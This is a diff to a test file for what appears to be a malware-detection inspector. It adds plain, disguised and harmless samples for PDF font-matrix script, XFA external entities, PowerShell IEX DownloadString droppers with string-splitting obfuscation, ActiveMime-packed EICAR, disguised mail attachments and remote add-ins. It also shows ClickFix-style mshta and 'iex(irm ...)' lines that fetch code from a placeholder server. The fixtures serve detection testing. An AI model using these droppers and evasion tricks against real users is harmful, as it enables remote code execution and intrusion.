@@ -2,8 +2,9 @@
 
 import assert from 'node:assert/strict'
 import { suite, test } from 'node:test'
+import { deflateSync, gzipSync } from 'node:zlib'
 import { useInspector } from './testing/inspector.ts'
-import { pdf } from './testing/samples.ts'
+import { docx, EICAR, pdf } from './testing/samples.ts'
 import { writeZip } from './testing/zip-writer.ts'
 
 const { inspect } = useInspector()
@@ -67,6 +68,33 @@ const content = (...lines: string[]): Uint8Array => {
   return pdf([catalog(''), `<< /Length ${text.length} >>\nstream\n${text}\nendstream`])
 }
 const percent = (text: string): string => text.replace(/./g, (letter) => `%${letter.charCodeAt(0).toString(16)}`)
+
+const font = (matrix: string, other = 'null'): Uint8Array =>
+  pdf([
+    catalog('/Pages 2 0 R'),
+    '<< /Kids [] >>',
+    `<< /Type /Font /Subtype /Type1 /BaseFont /A /FontMatrix ${matrix} >>`,
+    other,
+  ])
+const form = (entry: string, ...parts: string[]): Uint8Array =>
+  pdf([
+    catalog(`/AcroForm << ${entry} >>`),
+    ...parts.map((part) => `<< /Length ${part.length} >>\nstream\n${part}\nendstream`),
+  ])
+const activeMime = (packed: Uint8Array, field = 4): Buffer => {
+  const header = Buffer.alloc(46 + field)
+  header.write('ActiveMime')
+  header.writeUInt16LE(field, 0x1e)
+  return Buffer.concat([header, packed])
+}
+const mail = (name: string, text: string): Uint8Array =>
+  Buffer.from(
+    `From: a@a.example\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream; ${name}\r\nContent-Transfer-Encoding: base64\r\n\r\n${btoa(text)}\r\n`,
+  )
+const addIn = (location: string): Uint8Array =>
+  docx({
+    'docProps/custom.xml': `<Properties><property name="_AssemblyLocation"><vt:lpwstr>${location}</vt:lpwstr></property></Properties>`,
+  })
 
 type Row = [technique: string, id: string, plain: Uint8Array, disguised: Uint8Array, harmless: Uint8Array]
 
@@ -307,6 +335,71 @@ const ROWS: readonly Row[] = [
     content('Press Win + R and paste:', `powershell -c "iex(irm http://${SERVER}/a)"`),
     content('Open the Run dialog', `mshta http://${SERVER}/a`),
     content('ClickFix: attackers ask to press Win + R', `mshta http://${SERVER}/a`),
+  ],
+  [
+    'code in the matrix of a font',
+    'Pdf.FontCode',
+    font('[1 0 0 1 0 (1\\); alert\\(1\\))]'),
+    font('4 0 R', '[1 0 0 1 0 <31293b616c6572742831 29>]'),
+    font('[0.001 0 0 0.001 0 0]'),
+  ],
+  [
+    'form that loads from outside',
+    'Pdf.XfaExternal',
+    form('/XFA 2 0 R', `<!DOCTYPE a [<!ENTITY x SYSTEM "http://${SERVER}/x">]><xdp>&x;</xdp>`),
+    form('/X#46A [(a) 2 0 R (b) 3 0 R]', '<!DOCTYPE a [<!ENT', `ITY % x SYSTEM 'http://${SERVER}/x'>%x;]><xdp/>`),
+    form('/XFA 2 0 R', '<xdp><template><field name="a"/></template></xdp>'),
+  ],
+  [
+    'script in a note, from pieces',
+    'Script.Dropper',
+    note(`IEX (New-Object Net.WebClient).DownloadString("http://${SERVER}/a")\r\n`),
+    note(
+      `&("{1}{0}" -f "X","IE") (&("{0}{1}" -f "New-Ob","ject") Net.WebClient).("Downlo"+"adString").Invoke("http://${SERVER}/a")`,
+    ),
+    note('Get-ChildItem C:\\Logs | Sort-Object Length | Select-Object -First 5\r\n'),
+  ],
+  [
+    'ActiveMime',
+    'Mht.ActiveMime',
+    Buffer.from(
+      `${XML}<w:binData w:name="editdata.mso">${activeMime(deflateSync(EICAR)).toString('base64')}</w:binData>`,
+    ),
+    Buffer.from(
+      `MIME-Version: 1.0\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n\r\n${activeMime(
+        deflateSync(gzipSync(EICAR)),
+        0x1fc,
+      )
+        .toString('base64')
+        .replace(/.{40}/g, '$&\r\n ')}`,
+    ),
+    Buffer.from(`${XML}<w:binData w:name="image1.png">${btoa('Good morning')}</w:binData>`),
+  ],
+  [
+    'program in a mail',
+    'Mail.ProgramAttachment',
+    mail('name="a.js"', 'a = 1'),
+    mail(`name*0*=utf-8''invoice%2E;\r\n name*1*=%6A%73`, 'a = 1'),
+    mail('name="a.txt"', 'a = 1'),
+  ],
+  [
+    'add-in on a share',
+    'Ooxml.AddInShare',
+    addIn(`${SHARE}\\a.vsto|1`),
+    addIn(`&#x5c;&#92;${SERVER}@80&#92;a.vsto`),
+    addIn('Add-in.vsto|1|vstolocal'),
+  ],
+  [
+    'page inside a PDF',
+    'Script.ShellObject',
+    Buffer.concat([pdf([catalog('')]), Buffer.from(`\n<html><script>${RUN}</script></html>\n`)]),
+    Buffer.concat([
+      pdf([catalog('')]),
+      Buffer.from(
+        `\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n--b\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n${btoa(`<html><script>${RUN}</script></html>`)}\n--b--\n`,
+      ),
+    ]),
+    Buffer.concat([pdf([catalog('')]), Buffer.from('\n% made by a tool <b>\n')]),
   ],
 ]
 
